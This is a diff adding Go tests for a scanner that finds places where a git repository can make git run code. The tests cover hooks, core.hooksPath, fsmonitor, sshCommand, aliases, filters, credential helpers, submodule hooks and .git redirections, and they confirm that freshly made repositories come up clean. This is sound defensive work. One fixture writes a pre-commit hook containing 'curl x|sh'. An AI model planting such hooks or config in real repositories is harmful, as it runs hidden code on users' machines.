@@ -1,0 +1,167 @@
+package gitconfig
+
+import (
+	"fmt"
+	"io/fs"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+)
+
+// TestCodeOrdinary: repositories as git itself makes them for ordinary
+// work (init, clone, a remote, an upstream branch, user.email, a
+// submodule, a linked worktree, a commit) carry no code.
+func TestCodeOrdinary(t *testing.T) {
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("no git")
+	}
+	root, err := filepath.EvalSymlinks(t.TempDir())
+	if err != nil {
+		t.Fatal(err)
+	}
+	home := filepath.Join(root, "home")
+	os.MkdirAll(home, 0o755)
+	up := filepath.Join(root, "up")
+	os.MkdirAll(up, 0o755)
+	gitIn(t, up, home, "init", "-q")
+	os.WriteFile(filepath.Join(up, "a"), []byte("a\n"), 0o644)
+	gitIn(t, up, home, "add", "a")
+	gitIn(t, up, home, "commit", "-qm", "a")
+
+	proj := filepath.Join(root, "proj")
+	os.MkdirAll(proj, 0o755)
+	gitIn(t, proj, home, "init", "-q")
+	check := func(what string) {
+		t.Helper()
+		if items := Code(rootFS(), proj+"/.git"); len(items) > 0 {
+			t.Errorf("after %s: %q, want nothing", what, items)
+		}
+	}
+	check("git init")
+	gitIn(t, proj, home, "config", "user.email", "agent@example.com")
+	gitIn(t, proj, home, "config", "user.name", "Agent")
+	gitIn(t, proj, home, "remote", "add", "origin", up)
+	gitIn(t, proj, home, "fetch", "-q", "origin")
+	gitIn(t, proj, home, "checkout", "-q", "-b", "work", "--track", "origin/"+gitIn(t, up, home, "branch", "--show-current"))
+	gitIn(t, proj, home, "config", "pull.rebase", "false")
+	check("user.*, a remote, an upstream branch, pull.rebase")
+	gitIn(t, proj, home, "-c", "protocol.file.allow=always", "submodule", "add", "-q", up, "vendor/up")
+	check("git submodule add")
+	gitIn(t, proj, home, "worktree", "add", "-q", filepath.Join(root, "wt"))
+	check("git worktree add")
+	os.WriteFile(filepath.Join(proj, "b"), []byte("b\n"), 0o644)
+	gitIn(t, proj, home, "add", "b")
+	gitIn(t, proj, home, "commit", "-qm", "b")
+	check("a commit")
+
+	clone := filepath.Join(root, "clone")
+	gitIn(t, root, home, "clone", "-q", up, clone)
+	if items := Code(rootFS(), clone+"/.git"); len(items) > 0 {
+		t.Errorf("after git clone: %q, want nothing", items)
+	}
+	if items := Code(rootFS(), filepath.Join(root, "none", ".git")); items != nil {
+		t.Errorf("a missing .git: %q, want nothing", items)
+	}
+}
+
+// TestCodePlanted: each way a command that made a repository can leave a
+// program that git runs later is an item, and names it.
+func TestCodePlanted(t *testing.T) {
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("no git")
+	}
+	root, err := filepath.EvalSymlinks(t.TempDir())
+	if err != nil {
+		t.Fatal(err)
+	}
+	home := filepath.Join(root, "home")
+	os.MkdirAll(home, 0o755)
+	up := filepath.Join(root, "up")
+	os.MkdirAll(up, 0o755)
+	gitIn(t, up, home, "init", "-q")
+	os.WriteFile(filepath.Join(up, "a"), []byte("a\n"), 0o644)
+	gitIn(t, up, home, "add", "a")
+	gitIn(t, up, home, "commit", "-qm", "a")
+
+	n := 0
+	fresh := func() string {
+		n++
+		p := filepath.Join(root, fmt.Sprint("p", n))
+		os.MkdirAll(p, 0o755)
+		gitIn(t, p, home, "init", "-q")
+		return p
+	}
+	for _, c := range []struct {
+		name string
+		make func(p string)
+		want string
+	}{
+		{"a pre-commit hook", func(p string) {
+			os.WriteFile(p+"/.git/hooks/pre-commit", []byte("#!/bin/sh\ncurl x|sh\n"), 0o755)
+		}, "hooks/pre-commit"},
+		{"a sample renamed into place by a link", func(p string) {
+			os.Symlink("pre-push.sample", p+"/.git/hooks/pre-push")
+		}, "hooks/pre-push"},
+		{"core.hooksPath", func(p string) { gitIn(t, p, home, "config", "core.hooksPath", ".husky/_") }, `config: core.hookspath=".husky/_"`},
+		{"core.fsmonitor", func(p string) { gitIn(t, p, home, "config", "core.fsmonitor", "./x.sh") }, "config: core.fsmonitor="},
+		{"core.sshCommand", func(p string) { gitIn(t, p, home, "config", "core.sshCommand", "./x.sh") }, "config: core.sshcommand="},
+		{"a shell alias", func(p string) { gitIn(t, p, home, "config", "alias.st", "!./x.sh") }, "config: alias.st="},
+		{"include.path", func(p string) { gitIn(t, p, home, "config", "include.path", "../inc") }, "config: include.path="},
+		{"a filter", func(p string) { gitIn(t, p, home, "config", "filter.x.smudge", "./x.sh") }, "config: filter.x.smudge="},
+		{"a credential helper", func(p string) { gitIn(t, p, home, "config", "credential.helper", "!./x.sh") }, "config: credential.helper="},
+		{"submodule update by a command", func(p string) { gitIn(t, p, home, "config", "submodule.x.update", "!./x.sh") }, "config: submodule.x.update="},
+		{"an unknown key", func(p string) { gitIn(t, p, home, "config", "uploadpack.packObjectsHook", "./x.sh") }, "config: uploadpack.packobjectshook="},
+		{"config.worktree", func(p string) {
+			os.WriteFile(p+"/.git/config.worktree", []byte("[core]\n\thooksPath = h\n"), 0o644)
+		}, "config.worktree: core.hookspath="},
+		{"a config git refuses", func(p string) {
+			f, _ := os.OpenFile(p+"/.git/config", os.O_APPEND|os.O_WRONLY, 0)
+			f.WriteString("[core\n")
+			f.Close()
+		}, "config: "},
+		{"commondir", func(p string) { os.WriteFile(p+"/.git/commondir", []byte(up+"/.git\n"), 0o644) }, "commondir"},
+		{"a submodule's hook", func(p string) {
+			gitIn(t, p, home, "-c", "protocol.file.allow=always", "submodule", "add", "-q", up, "sub")
+			os.WriteFile(p+"/.git/modules/sub/hooks/post-checkout", []byte("#!/bin/sh\n"), 0o755)
+		}, "modules/sub/hooks/post-checkout"},
+		{"a nested submodule path's hook", func(p string) {
+			gitIn(t, p, home, "-c", "protocol.file.allow=always", "submodule", "add", "-q", up, "a/b")
+			os.WriteFile(p+"/.git/modules/a/b/hooks/post-checkout", []byte("#!/bin/sh\n"), 0o755)
+		}, "modules/a/b/hooks/post-checkout"},
+		{"a worktree pointing elsewhere", func(p string) {
+			gitIn(t, p, home, "commit", "-q", "--allow-empty", "-m", "x")
+			gitIn(t, p, home, "worktree", "add", "-q", p+"-wt")
+			os.WriteFile(p+"/.git/worktrees/"+filepath.Base(p)+"-wt/commondir", []byte(up+"/.git\n"), 0o644)
+		}, "worktrees/"},
+		{"too many hooks to read", func(p string) {
+			for i := range maxCodeDirEntries + 1 {
+				os.WriteFile(fmt.Sprintf("%s/.git/hooks/x%d.sample", p, i), nil, 0o644)
+			}
+		}, "hooks: more than"},
+		{"hooks a symlink", func(p string) {
+			os.RemoveAll(p + "/.git/hooks")
+			os.Symlink(home, p+"/.git/hooks")
+		}, "hooks: hooks is not a directory"},
+		{".git a file", func(p string) {
+			os.RemoveAll(p + "/.git")
+			os.WriteFile(p+"/.git", []byte("gitdir: "+up+"/.git\n"), 0o644)
+		}, ".git is a file (gitdir: "},
+		{".git a symlink", func(p string) {
+			os.RemoveAll(p + "/.git")
+			os.Symlink(up+"/.git", p+"/.git")
+		}, ".git is a symlink to "},
+	} {
+		p := fresh()
+		c.make(p)
+		items := Code(rootFS(), p+"/.git")
+		if !slices.ContainsFunc(items, func(s string) bool { return strings.HasPrefix(s, c.want) }) {
+			t.Errorf("%s: %q, want an item starting %q", c.name, items, c.want)
+		}
+	}
+}
+
+// rootFS is the whole file system as Code takes it.
+func rootFS() fs.ReadLinkFS { return os.DirFS("/").(fs.ReadLinkFS) }
